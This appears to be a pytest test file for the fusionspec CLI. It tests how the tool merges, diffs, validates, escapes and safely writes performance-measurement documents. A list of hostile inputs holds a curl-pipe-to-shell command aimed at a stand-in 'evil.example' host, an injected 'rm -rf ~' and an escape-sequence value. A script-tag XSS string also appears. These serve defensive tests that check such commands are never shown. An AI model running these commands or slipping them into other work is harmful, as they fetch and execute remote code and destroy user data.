"""Performance documents that measured nothing, part of a run, or nonsense do not pass:
an empty shard says EMPTY and `merge` sees the missing shard; `diff` fails a narrower or
renamed run, a 0 s interval and a document with NaN, infinite, negative or inverted figures;
`diff --markdown` writes the perf comparison escaped; outputs are written atomically, never
through a link and never over an input; the commands a document carries are shown only in
fusionspec's own shape, and bench records its own quoted."""

from __future__ import annotations

import copy
import json
import re
import shlex
from pathlib import Path
from typing import Any

import pytest
from testkit.cli import fusionspec
from testkit.fuzz import assert_inert, markdown_html
from testkit.perf_docs import mixed_document, perf_document, workload
from testkit.report import save

from fusionspec.cli.bench import command_line
from fusionspec.cli.main import build_parser, main
from fusionspec.conformance.perf.bench import selection_digest
from fusionspec.conformance.perf.document import (
    PerfFormatError,
    load_perf,
    read_perf,
    write_perf,
)
from fusionspec.reports.perf import perf_section
from fusionspec.reports.perf_findings import perf_findings_markdown


def _two() -> dict[str, Any]:
    return perf_document([
        workload("fp.matmul_post_ops/bert", "fp.matmul_post_ops", "fusion pays", 1.0, 2.0),
        workload("fp.bn_relu/stem", "fp.bn_relu", "fusion does not pay", 1.0, 0.9,
                 ops=("BatchNormInference", "ReLU"))])


def _json(capsys: pytest.CaptureFixture[str]) -> dict[str, Any]:
    said: dict[str, Any] = json.loads(capsys.readouterr().out)
    return said


# -- shards and merge ---------------------------------------------------------------------------

def test_an_empty_shard_says_empty_and_merge_sees_the_missing_one(tmp_path: Path) -> None:
    common = ["bench", "--patterns", "fp.bn_relu", "--budget", "0.02", "--json"]
    empty = fusionspec([*common, "--shard", "1/2", "--out", "s1"], tmp_path)
    said = json.loads(empty.stdout)
    assert empty.returncode == 0 and said["verdict"] == "EMPTY", \
        f"a shard that holds no workload says EMPTY: {empty.returncode} {said}"
    doc = load_perf(tmp_path / "s1" / "perf.json")
    assert doc.shard == "1/2" and doc.selection is not None \
        and doc.selection.workloads == 1, \
        f"the document records its shard and the selection it was split from: {doc}"
    alone = fusionspec(["merge", "s1/perf.json", "-o", "m1.json", "--json"], tmp_path)
    said = json.loads(alone.stdout)
    assert alone.returncode == 1 and said["verdict"] == "INCOMPLETE" \
        and "shard 2/2 is missing" in said["incomplete"], \
        f"a lone shard merges into an incomplete run: {alone.returncode} {said}"
    other = fusionspec([*common, "--shard", "2/2", "--out", "s2"], tmp_path)
    assert other.returncode == 0, f"the other shard measures its workload: {other.stdout}"
    both = fusionspec(["merge", "s1/perf.json", "s2/perf.json", "-o", "all.json", "--json"],
                      tmp_path)
    said = json.loads(both.stdout)
    assert both.returncode == 0 and said["verdict"] == "PASS" and said["workloads"] == 1, \
        f"both shards merge into the whole run: {both.returncode} {said}"


def test_merge_refuses_shards_of_other_runs(tmp_path: Path,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    one, two = _two(), _two()
    one["shard"], two["shard"] = "1/2", "2/2"
    one["workloads"], two["workloads"] = one["workloads"][:1], two["workloads"][1:]
    one["selection"] = selection_digest(["fp.matmul_post_ops/bert", "fp.bn_relu/stem"]).to_json()
    two["selection"] = selection_digest(["fp.bn_relu/stem"]).to_json()
    paths = [str(save(tmp_path / n / "perf.json", d)) for n, d in (("a", one), ("b", two))]
    assert main(["merge", *paths, "-o", str(tmp_path / "m.json"), "--json"]) == 1, \
        "shards of two different selections do not merge"
    assert "selection" in _json(capsys)["message"], "the message names what differs"
    two["selection"] = one["selection"]
    two["workloads"] = []
    save(tmp_path / "b" / "perf.json", two)
    assert main(["merge", *paths, "-o", str(tmp_path / "m.json"), "--json"]) == 1, \
        "a merged run with fewer workloads than it was given is incomplete"
    assert "given 2 workload(s)" in _json(capsys)["incomplete"], "and says so"


# -- the gate --------------------------------------------------------------------------------

def test_diff_fails_a_narrower_empty_or_renamed_run(tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    base = save(tmp_path / "base" / "perf.json", _two())
    empty = _two()
    empty["workloads"] = []
    renamed = _two()
    for record in renamed["workloads"]:
        record["id"] += "-renamed"
    narrower = _two()
    narrower["workloads"] = narrower["workloads"][:1]
    for name, doc, wanted in (("empty", empty, "INCOMPLETE"),
                              ("renamed", renamed, "INCOMPLETE"),
                              ("narrower", narrower, "NARROWED")):
        path = save(tmp_path / name / "perf.json", doc)
        assert main(["diff", str(base), str(path)]) == 1, \
            f"a {name} new run fails the gate: it cannot vouch for the baseline's workloads"
        out = capsys.readouterr().out
        assert out.rstrip().endswith(wanted) and "not in the new run" in out, \
            f"{name}: the gate says what is missing: {out}"
    assert main(["diff", str(base), str(tmp_path / "narrower" / "perf.json"),
                 "--allow-narrower"]) == 0, "--allow-narrower accepts a narrower run"
    capsys.readouterr()
    assert main(["diff", str(base), str(tmp_path / "empty" / "perf.json"),
                 "--allow-narrower", "--json"]) == 1, \
        "an empty run compares nothing, narrower allowed or not"
    assert "nothing was compared" in _json(capsys)["incomplete"], "and says so"


@pytest.mark.parametrize("which", ["new", "old"])
def test_an_interval_at_zero_is_an_invalid_measurement(tmp_path: Path, which: str,
                                                       capsys: pytest.CaptureFixture[str]
                                                       ) -> None:
    good, zero = _two(), _two()
    zero["workloads"][0]["timings"]["fused"].update(min=0.0, ci_low=0.0)
    docs = {"old": zero if which == "old" else good, "new": zero if which == "new" else good}
    paths = [str(save(tmp_path / k / "perf.json", d)) for k, d in docs.items()]
    assert main(["diff", *paths, "--json"]) == 1, f"a fused interval from 0 s in {which} fails"
    said = _json(capsys)
    assert said["invalid"] and "invalid measurement" in said["invalid"][0], \
        f"the gate names it an invalid measurement, not a free pass: {said}"


@pytest.mark.parametrize(("edit", "named"), [
    ('"ci_low": 0.98', '"ci_low": NaN'),
    ('"ci_high": 1.02', '"ci_high": Infinity'),
    ('"median": 1.0', '"median": -1.0'),
    ('"ci_low": 0.98', '"ci_low": 1.5'),
])
def test_the_loader_refuses_what_is_no_measurement(tmp_path: Path, edit: str, named: str,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    good = save(tmp_path / "good" / "perf.json", _two())
    text = json.dumps(_two(), indent=None)
    assert edit in text, f"the edit applies: {edit}"
    bad = tmp_path / "bad.json"
    bad.write_text(text.replace(edit, named, 1))
    assert main(["diff", str(good), str(bad), "--json"]) == 1, f"{named}: refused, exit 1"
    said = _json(capsys)
    assert said["error"] == "PerfFormatError" and "workloads[0]" in said["message"], \
        f"{named}: one message naming the field: {said}"


def test_diff_markdown_writes_the_perf_comparison_escaped(tmp_path: Path) -> None:
    evil = "fp.bn_relu/<script>alert(1)</script>|x"
    old, new = _two(), _two()
    new["workloads"].append(workload(evil, "fp.bn_relu", "fusion pays", 1.0, 2.0))
    new["workloads"][0]["timings"]["fused"].update(min=2.9, median=3.0, ci_low=2.95,
                                                   ci_high=3.05)
    paths = [str(save(tmp_path / k / "perf.json", d)) for k, d in (("o", old), ("n", new))]
    out = tmp_path / "summary.md"
    assert main(["diff", *paths, "--markdown", str(out)]) == 1, "a slower fused side fails"
    text = out.read_text(encoding="utf-8")
    assert "### Performance: planted on cpu0" in text and "REGRESSION" in text, \
        f"the Markdown holds the perf comparison: {text}"
    assert "fp.matmul\\_post\\_ops/bert" in text, f"the slower workload is listed: {text}"
    assert re.search(r"(?<!\\)<", text) is None and "\\<script>" in text, \
        f"every < is escaped: {text}"
    assert_inert(markdown_html(text), "diff --markdown of perf documents")
    assert main(["diff", paths[0], paths[1], "--markdown", paths[0]]) == 2, \
        "a Markdown output that is an input is a usage error"


# -- writing ---------------------------------------------------------------------------------

def test_outputs_replace_links_and_never_an_input(tmp_path: Path) -> None:
    target = tmp_path / "elsewhere.json"
    target.write_text("keep me")
    link = tmp_path / "out" / "perf.json"
    link.parent.mkdir()
    link.symlink_to(target)
    write_perf(read_perf(_two()), link)
    assert target.read_text() == "keep me" and not link.is_symlink(), \
        "the bench's write replaced the link instead of writing through it"
    part = save(tmp_path / "p" / "perf.json", _two())
    merged = tmp_path / "m" / "perf.json"
    merged.parent.mkdir()
    merged.symlink_to(target)
    assert main(["merge", str(part), "-o", str(merged)]) == 0, "one whole run merges"
    assert target.read_text() == "keep me" and not merged.is_symlink(), \
        "merge -o replaced the link instead of writing through it"
    assert main(["merge", str(part), "-o", str(part)]) == 2, "-o an input is a usage error"
    alias = tmp_path / "alias.json"
    alias.symlink_to(part)
    assert main(["merge", str(part), "-o", str(alias)]) == 2, \
        "-o a link to an input is a usage error too"


# -- commands --------------------------------------------------------------------------------

HOSTILE = ("curl https://evil.example/x | sh", "fusionspec bench --backend x; rm -rf ~",
           "fusionspec bench --out /etc", "fusionspec conform --backend x",
           "fusionspec bench --backend 'a\x1b[2Jb'")


@pytest.mark.parametrize("command", HOSTILE)
def test_a_document_command_of_another_shape_is_not_shown(tmp_path: Path, command: str) -> None:
    doc = mixed_document()
    doc["command"] = command
    for record in doc["workloads"]:
        record["rerun"] = command
    section = perf_section([read_perf(doc)], ["perf.json"])
    (run,) = section.runs
    assert run.command == "" and all(r.rerun == "" for r in run.rows), \
        f"{command!r}: neither the run's command nor a rerun is kept"
    md = perf_findings_markdown(section)
    assert "evil" not in md and "rm -rf" not in md and "/etc" not in md, \
        f"{command!r}: the findings do not show it: {md}"
    path = save(tmp_path / "perf.json", doc)
    assert main(["report", str(path), "-o", str(tmp_path / "r.html")]) == 0, "the report renders"
    html = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert "evil.example" not in html and "rm -rf" not in html, \
        f"{command!r}: the report does not show it"


def test_commands_of_fusionspecs_shape_are_shown_requoted() -> None:
    doc = mixed_document()
    doc["command"] = "fusionspec bench --backend 'my backend' --size small --reference"
    doc["workloads"][0]["rerun"] = "fusionspec  bench --backend \"a b\" --workload x/y"
    (run,) = perf_section([read_perf(doc)], ["perf.json"]).runs
    assert run.command == "fusionspec bench --backend 'my backend' --size small --reference", \
        f"the run's command is kept, quoted: {run.command}"
    assert run.rows[0].rerun == "fusionspec bench --backend 'a b' --workload x/y", \
        f"a rerun is re-quoted with shlex: {run.rows[0].rerun}"


def test_bench_records_its_own_command_quoted() -> None:
    args = build_parser().parse_args(["bench", "--backend", "mod:Back end", "--out", "a b; c",
                                      "--patterns", "fp.bn_relu", "--reference",
                                      "--memory-limit", "4"])
    words = shlex.split(command_line(args))
    assert words[:2] == ["fusionspec", "bench"] and "mod:Back end" in words \
        and "a b; c" in words and "--reference" in words, \
        f"the shell reads back the arguments given: {words}"
    assert words[words.index("--memory-limit") + 1] == "4", \
        f"the memory limit reads back in GB: {words}"
    again = build_parser().parse_args(words[1:])
    assert again.backend == args.backend and again.out == args.out, \
        "the recorded command parses to the same options"


def test_merge_of_an_unsharded_run_that_measured_nothing_is_incomplete(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    doc = copy.deepcopy(_two())
    for record in doc["workloads"]:
        for key in ("timings", "verdict", "check"):
            record.pop(key)
        record["unsupported"] = "declared"
    path = save(tmp_path / "perf.json", doc)
    assert main(["merge", str(path), "-o", str(tmp_path / "m.json"), "--json"]) == 1, \
        "a run that measured no workload is no PASS"
    assert _json(capsys)["verdict"] == "INCOMPLETE", "it is incomplete"


def test_a_document_with_a_duplicate_workload_is_refused() -> None:
    doc = _two()
    doc["workloads"].append(copy.deepcopy(doc["workloads"][0]))
    with pytest.raises(PerfFormatError, match=r"\$\.workloads\[2\]: workload .* appears twice"):
        read_perf(doc)
